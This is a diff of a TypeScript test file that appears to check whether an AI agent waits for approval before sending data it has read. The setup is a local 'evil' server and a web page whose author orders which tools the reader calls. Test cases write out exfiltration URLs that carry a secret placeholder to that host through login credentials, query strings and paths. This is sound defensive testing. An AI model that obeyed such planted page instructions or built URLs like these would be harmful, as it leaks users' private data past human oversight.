@@ -20,7 +20,7 @@ async function note(request: IncomingMessage): Promise<void> {
 const evil = createServer((request, response) => {
   void note(request).then(() => response.writeHead(200, { "content-type": "text/plain" }).end("thank you"));
 }).listen(0, "127.0.0.1");
-/** The page that the user names; its author orders what whoever reads it shall call. */
+/** The page that the user names; its author orders which tools its reader shall call. */
 const page = createServer((request, response) => {
   void note(request).then(() => response.writeHead(200, { "content-type": "text/plain" }).end(order));
 }).listen(0, "127.0.0.1");
@@ -113,7 +113,7 @@ it.each<[string, Call]>([
   ["to its own host, as a login", fetching(`http://Ann:SALARY@${hostOf(evil)}/`)],
   ["behind the URL that the user wrote", fetching(`${pageUrl}?q=SALARY`)],
   ["below the URL that the user wrote", fetching(`${pageUrl}/SALARY`)],
-])("waits for a person before it sends what was read %s", async (_where, call) => {
+])("waits for approval before it sends untrusted content %s", async (_where, call) => {
   for (const wording of WORDINGS) {
     const planId = await read(call, wording);
     const view = await settled(planId);
